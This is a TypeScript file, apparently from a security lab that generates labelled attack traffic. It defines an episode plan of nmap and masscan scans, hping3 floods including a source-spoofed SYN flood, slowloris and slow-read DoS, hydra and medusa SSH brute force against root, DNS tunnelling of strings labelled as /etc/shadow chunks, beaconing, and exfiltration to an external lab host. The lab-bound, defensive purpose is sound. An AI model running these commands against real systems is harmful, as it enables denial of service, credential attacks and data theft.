// What the lab's attackers do, one episode at a time, and how long the lab runs. Each
// episode is one real tool run against one victim (a host, the subnet, or the external
// host); the `implant` host's slow scan and beaconing run in the background, beside the
// attacker's episodes, against other victims, so every flow still belongs to one episode.
import type { LabHost } from './topology.ts';

export interface LabScale {
  baselineS: number;
  /** How long the benign hosts keep going after the baseline: covers every episode. */
  attackBudgetS: number;
  gapS: number;
  backupBytes: number;
  tcpPorts: string;
  udpPorts: string;
  floodPackets: number;
  passwords: number;
  tunnelQueries: number;
  beaconPeriodS: number;
  beacons: number;
  exfilBytes: number;
  exfilS: number;
  slowPorts: string;
  /** The host sweep covers the first 2^(32 - prefix) addresses of the subnet (the lab's hosts are .10 to .19). */
  sweepPrefix: number;
  /** masscan's packets per second (it sends at a fixed rate, from its own source port). */
  masscanRate: number;
  /** slowhttptest: concurrent connections held open, and for how long (s). */
  slowConnections: number;
  slowS: number;
  /** nmap's stealth scans run (the short lab: FIN and XMAS; NULL and ACK probes are alike). */
  stealthScans: readonly ('sF' | 'sN' | 'sX' | 'sA')[];
  /** nmap -sV -O (service and OS detection) waits on every service's probes: a minute and more. */
  versionScan: boolean;
}

export const LAB_SCALES: Record<'short' | 'long', LabScale> = {
  short: { baselineS: 75, attackBudgetS: 240, gapS: 2, backupBytes: 40_000_000, tcpPorts: '1-400', udpPorts: '1-120', floodPackets: 1500, passwords: 24, tunnelQueries: 50, beaconPeriodS: 4, beacons: 12, exfilBytes: 3_000_000, exfilS: 20, slowPorts: '22,23,80,3389', sweepPrefix: 27, masscanRate: 2000, slowConnections: 100, slowS: 8, stealthScans: ['sF', 'sX'], versionScan: false },
  long: { baselineS: 600, attackBudgetS: 900, gapS: 10, backupBytes: 400_000_000, tcpPorts: '1-1024', udpPorts: '1-300', floodPackets: 6000, passwords: 120, tunnelQueries: 400, beaconPeriodS: 10, beacons: 36, exfilBytes: 20_000_000, exfilS: 240, slowPorts: '21,22,23,25,80,443,3389,8080', sweepPrefix: 24, masscanRate: 5000, slowConnections: 400, slowS: 60, stealthScans: ['sF', 'sN', 'sX', 'sA'], versionScan: true },
};

export interface Episode {
  episode: string;
  attack: string;
  /** The lab role that runs it. */
  from: string;
  /** An address, or a CIDR (a sweep). */
  victim: string;
  /** argv run in the attacker's namespace; `agent …` runs scripts/lab/agent.ts. */
  command: string[];
  timeoutS: number;
  /** Runs beside the following episodes instead of before them. */
  background?: boolean;
  /** Spoofed sources: the episode's flows come from any address outside these networks (the lab's own, comma-separated). */
  spoofedOutside?: string;
}

const base32 = (n: number) => Buffer.from(`chunk ${n} of /etc/shadow ${'x'.repeat(n % 13)}`).toString('hex');

export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr: string, externalCidr: string): Episode[] {
  const victim = h.server!.addr;
  const sweep = internalCidr.replace(/\/\d+$/, `/${s.sweepPrefix}`);
  const ext = h.external!.addr;
  const writeWords = `printf '%s\\n' ${Array.from({ length: s.passwords }, (_, i) => `pass${i}word`).join(' ')} > words.txt`;
  const tunnel = Array.from({ length: s.tunnelQueries }, (_, i) => `dig @${victim} +tries=1 +time=1 TXT ${base32(i).slice(0, 60)}.${base32(i + 7).slice(0, 40)}.t.lab >/dev/null`).join('; sleep 0.2; ');
  return [
    { episode: 'slowscan', attack: 'slowscan', from: 'implant', victim, command: ['nmap', '-sS', '-T1', '-Pn', '-n', '-p', s.slowPorts, victim], timeoutS: s.attackBudgetS, background: true },
    { episode: 'beacon', attack: 'beacon', from: 'implant', victim: ext, command: ['agent', 'beacon', ext, String(s.beaconPeriodS), String(s.beacons)], timeoutS: s.attackBudgetS, background: true },
    { episode: 'nmap-sS', attack: 'tcpscan', from: 'attacker', victim, command: ['nmap', '-sS', '-T4', '-Pn', '-n', '-p', s.tcpPorts, victim], timeoutS: 120 },
    { episode: 'nmap-sT', attack: 'tcpscan', from: 'attacker', victim, command: ['nmap', '-sT', '-T4', '-Pn', '-n', '-p', s.tcpPorts, victim], timeoutS: 120 },
    { episode: 'nmap-sU', attack: 'udpscan', from: 'attacker', victim, command: ['nmap', '-sU', '-T4', '-Pn', '-n', '--max-retries', '1', '-p', s.udpPorts, victim], timeoutS: 180 },
    { episode: 'nmap-sn', attack: 'sweep', from: 'attacker', victim: sweep, command: ['nmap', '-sn', '-T4', '-n', '--disable-arp-ping', sweep], timeoutS: 120 },
    { episode: 'hping-syn', attack: 'synflood', from: 'attacker', victim, command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
    // Every SYN from a random address: one packet per source, so only the victim's side sees a flood.
    { episode: 'hping-spoofed', attack: 'spoofedflood', from: 'attacker', victim, spoofedOutside: `${internalCidr},${externalCidr}`, command: ['hping3', '-q', '-S', '-p', '80', '--rand-source', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
    { episode: 'hping-udp', attack: 'udpflood', from: 'attacker', victim, command: ['hping3', '-q', '--udp', '-p', '53', '-d', '120', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
    { episode: 'hping-icmp', attack: 'icmpflood', from: 'attacker', victim, command: ['hping3', '-q', '-1', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
    // Probes no ordinary stack sends: FIN, NULL and XMAS (FIN+PSH+URG) segments and a lone
    // ACK, each to a port with no connection; closed ports answer with a reset.
    ...s.stealthScans.map((scan): Episode => ({ episode: `nmap-${scan}`, attack: 'stealthscan', from: 'attacker', victim, command: ['nmap', `-${scan}`, '-T4', '-Pn', '-n', '--max-retries', '1', '-p', s.tcpPorts, victim], timeoutS: 120 })),
    // Stateless: its own SYNs from one fixed source port, the kernel resets the SYN-ACKs.
    { episode: 'masscan', attack: 'tcpscan', from: 'attacker', victim, command: ['masscan', '-p', s.tcpPorts, '--rate', String(s.masscanRate), '--wait', '2', '--interface', 'eth0', '--router-ip', victim, victim], timeoutS: 120 },
    // Service and OS detection: full handshakes with protocol probes, then odd-flag OS probes.
    ...(s.versionScan ? [{ episode: 'nmap-sV-O', attack: 'tcpscan', from: 'attacker', victim, command: ['nmap', '-sV', '-O', '-T4', '-Pn', '-n', '-p', '1-100,443', victim], timeoutS: 180 }] : []),
    // Slow DoS: many connections to the web server held open with a trickle of headers
    // (slowloris, -H) or a zero-window slow read (-X).
    { episode: 'slowloris', attack: 'slowdos', from: 'attacker', victim, command: ['slowhttptest', '-H', '-c', String(s.slowConnections), '-r', String(s.slowConnections), '-i', '5', '-l', String(s.slowS), '-t', 'GET', '-u', `http://${victim}/page/1`], timeoutS: s.slowS + 30 },
    { episode: 'slowread', attack: 'slowdos', from: 'attacker', victim, command: ['slowhttptest', '-X', '-c', String(s.slowConnections), '-r', String(s.slowConnections), '-w', '10', '-y', '20', '-n', '5', '-z', '32', '-l', String(s.slowS), '-u', `http://${victim}/bytes/200000`], timeoutS: s.slowS + 30 },
    { episode: 'hydra-ssh', attack: 'bruteforce', from: 'attacker', victim, command: ['sh', '-c', `${writeWords} && hydra -q -I -l root -P words.txt -t 6 ssh://${victim}`], timeoutS: 240 },
    { episode: 'medusa-ssh', attack: 'bruteforce', from: 'attacker', victim, command: ['sh', '-c', `${writeWords} && medusa -h ${victim} -u root -P words.txt -M ssh -t 4 -O /dev/null >/dev/null`], timeoutS: 240 },
    { episode: 'dns-tunnel', attack: 'dnstunnel', from: 'attacker', victim, command: ['sh', '-c', tunnel], timeoutS: 240 },
    { episode: 'exfil', attack: 'exfil', from: 'attacker', victim: ext, command: ['agent', 'exfil', ext, String(s.exfilBytes), String(s.exfilS)], timeoutS: s.exfilS + 60 },
  ];
}
